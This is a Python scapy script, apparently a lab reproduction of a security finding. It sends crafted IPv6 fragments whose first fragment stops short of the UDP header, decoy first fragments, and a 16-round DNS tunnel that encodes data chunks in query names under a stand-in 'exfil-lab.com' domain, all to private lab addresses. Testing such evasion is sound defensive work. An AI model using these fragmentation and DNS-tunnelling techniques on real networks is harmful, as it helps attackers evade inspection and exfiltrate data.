#!/usr/bin/python3
"""frag6_chain.py - IPv6 first fragments that stop short of their UDP header
(scapy; /usr/bin/python3 for scapy), sent from record6.sh's client
fd53:6::10 to its listener fd53:6::53 port 53 (FINDINGS.md R21-F3):
  1. a query whose first fragment holds only a destination options header,
     its UDP header in the second (Linux drops the first: RFC 8200 4.5);
  2. the same 8-byte head as a decoy, then the real query's first fragment
     (UDP header and 8 bytes) and its rest (Linux delivers the real one);
  3. 16 rounds of 2 with data in the real names (a tunnel).
One packet at a time, 0.05-0.5 s apart."""
import base64, hashlib, time
from scapy.all import IPv6, IPv6ExtHdrFragment, IPv6ExtHdrDestOpt, UDP, DNS, DNSQR, Raw, send, conf

conf.verb = 0
SRC, DST = "fd53:6::10", "fd53:6::53"
DSTOPT = bytes(IPv6ExtHdrDestOpt(nh=17))   # 8 bytes, PadN


def udp(name, sport, dnsid):
    """The UDP header and payload of a query for name, checksum computed."""
    p = IPv6(bytes(IPv6(src=SRC, dst=DST) / UDP(sport=sport, dport=53) /
                   DNS(id=dnsid, rd=1, qd=DNSQR(qname=name))))
    return bytes(p[UDP])


def fr(ident, off, nh, data, more):
    return (IPv6(src=SRC, dst=DST, nh=44) /
            IPv6ExtHdrFragment(nh=nh, offset=off // 8, m=int(more), id=ident) / Raw(data))


def decoy_then_real(ident, name, sport, dnsid, gap):
    u = udp(name, sport, dnsid)
    send(fr(ident, 0, 60, DSTOPT, True))       # dropped by Linux
    time.sleep(gap)
    send(fr(ident, 0, 17, u[:16], True))       # the real head
    time.sleep(gap)
    send(fr(ident, 16, 17, u[16:], False))


def main():
    assert len(DSTOPT) == 8
    body = DSTOPT + udp("chain-cut-one.example", 40021, 0x6121)
    send(fr(0x8121, 0, 60, body[:8], True))
    time.sleep(0.2)
    send(fr(0x8121, 8, 60, body[8:], False))
    time.sleep(0.5)
    decoy_then_real(0x8122, "realchainmzxw6ytboi4dcnzr.example", 40022, 0x6122, 0.2)
    time.sleep(0.5)
    for i in range(16):
        data = hashlib.sha256(b"v6 chunk %d" % i).digest()[:15]
        name = base64.b32encode(data).decode().lower() + ".f14.exfil-lab.com"
        decoy_then_real(0x8200 + i, name, 44000 + i, 0x6600 + i, 0.05)
        time.sleep(0.1)


if __name__ == "__main__":
    main()
